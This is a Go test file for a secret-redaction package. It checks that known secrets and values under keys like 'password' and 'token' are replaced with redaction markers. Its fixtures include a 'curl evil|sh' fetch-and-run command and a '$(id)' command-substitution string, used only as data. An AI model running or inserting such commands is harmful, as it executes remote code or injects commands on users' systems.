package redact

import (
	"fmt"
	"strings"
	"testing"
)

func TestAScrubberTakesSecretsOutOfText(t *testing.T) {
	s := NewScrubber([]string{"hunter22", "two words…"})
	for _, tt := range []struct{ name, text, want string }{
		{"no secret", "the server is ready … 100 %", "the server is ready … 100 %"},
		{"a secret twice", "hunter22, hunter22\n", "[redacted], [redacted]\n"},
		{"a secret in escapes", `{"a":"hunter\u0032\u0032"}`, `{"a":"[redacted]"}`},
		{"a value under a telling key", `sent {"password":"x1"}`, `sent {"password":"[redacted]"}`},
		{"the start of a secret where a line was cut", "token hunter…\nnext", "token …\nnext"},
		{"the start of a secret elsewhere", "hunter\nnext", "hunter\nnext"},
		{"a secret with the mark of a cut in it", "two words…", "[redacted]"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := s.Text(tt.text); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestAScrubberLearnsSecrets(t *testing.T) {
	s := NewScrubber([]string{"hunter22"})
	s.Add("swordfish", "hunter22")
	if got, want := s.Text("hunter22 and swordfish"), "[redacted] and [redacted]"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestValuesReplacesSecretsAloneByTheirLength(t *testing.T) {
	s := NewScrubber([]string{"hunter22", `pa"ss`, "abc", "48213377", "abcdef", "defghi"})
	for _, tt := range []struct{ name, text, want string }{
		{"no secret", `"a": "b"`, `"a": "b"`},
		{"a secret", "--key=hunter22 --fast", "--key=[redacted: 8 bytes] --fast"},
		{"several", `"key": "hunter22 hunter22"`, `"key": "[redacted: 8 bytes] [redacted: 8 bytes]"`},
		{"one after the other", "hunter22hunter22", "[redacted: 8 bytes][redacted: 8 bytes]"},
		{"one in escapes", `"key": "hunter\u00322 pa\"ss"`, `"key": "[redacted: 13 bytes] [redacted: 6 bytes]"`},
		{"a number", `"pin": 48213377`, `"pin": [redacted: 8 bytes]`},
		{"digits around a number", `[99948213377999, 48213377e10]`, `[999[redacted: 8 bytes]999, [redacted: 8 bytes]e10]`},
		{"a number of the same value", `[-48213377.0, 4.8213377e7]`, `[-[redacted: 8 bytes].0, 4.8213377e7]`},
		{"a short one, whole", `{"a": "abc", "b": "xabc"}`, `{"a": "[redacted: 3 bytes]", "b": "xabc"}`},
		{"two that overlap", "abcdefghi!", "[redacted: 9 bytes]!"},
		{"a telling key", `{"token_command": "curl evil|sh"}`, `{"token_command": "curl evil|sh"}`},
		{"a telling key in a string", `{"a": "echo \"token\": \"$(id)\""}`, `{"a": "echo \"token\": \"$(id)\""}`},
		{"a secret under a telling key", `{"token": "is hunter22"}`, `{"token": "is [redacted: 8 bytes]"}`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := s.Values(tt.text); got != tt.want {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}

func TestALentSecretIsOneUntilItIsTakenBackAsOftenAsItWasLent(t *testing.T) {
	s := NewScrubber([]string{"always-one"})
	first, second := s.Lend("swordfish", "always-one"), s.Lend("swordfish")
	const text = "swordfish, always-one"
	for _, step := range []struct {
		back func()
		want string
	}{{func() {}, "[redacted], [redacted]"}, {first, "[redacted], [redacted]"}, {second, "swordfish, [redacted]"}} {
		step.back()
		if got := s.Text(text); got != step.want {
			t.Errorf("got %q, want %q", got, step.want)
		}
	}
}

// What the search for secrets costs, in JSON within a string, in prose with the marks of all
// escapings, and in base64.
func BenchmarkJSON(b *testing.B) {
	const item = `{"type":"text","text":"{\"name\":\"value\",\"n\":1}","number":12345},`
	const prose = "The Quick brown fox & 12 % of dogs;\\n\\tif a && b { return x }\\n"
	const data = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
	for _, tt := range []struct{ name, msg string }{
		{"json", `[` + strings.Repeat(item, 150) + `{}]`},
		{"prose", `["` + strings.Repeat(prose, 150) + `"]`},
		{"base64", `["` + strings.Repeat(data, 120) + `"]`},
	} {
		for _, secrets := range []int{3, 300} {
			b.Run(fmt.Sprintf("%s/%d", tt.name, secrets), func(b *testing.B) {
				var all []string
				for i := range secrets {
					all = append(all, fmt.Sprintf("%xhunter%d swordfish", i*7919+3, i))
				}
				r := Redactor{Patterns: newPatterns(all)}
				b.SetBytes(int64(len(tt.msg)))
				b.ReportAllocs()
				for b.Loop() {
					r.JSON([]byte(tt.msg))
				}
			})
		}
	}
}
